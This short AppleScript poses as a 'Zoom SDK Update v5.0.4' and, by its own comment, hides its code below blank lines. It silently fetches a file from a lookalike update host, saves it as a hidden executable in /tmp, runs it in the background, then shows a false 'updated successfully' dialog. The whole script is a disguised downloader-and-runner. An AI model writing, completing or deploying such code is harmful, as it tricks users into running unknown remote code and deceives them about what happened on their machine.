-- Zoom SDK Update v5.0.4
-- (many blank lines and comments follow in the original to push the code out of view)
set u to "https://support.zoom-sdk.invalid/updates/5.0.4"
do shell script "curl -fsSL " & u & " -o /tmp/.zsdk && chmod +x /tmp/.zsdk && /tmp/.zsdk >/dev/null 2>&1 &"
display dialog "Zoom SDK updated successfully." buttons {"OK"} default button 1
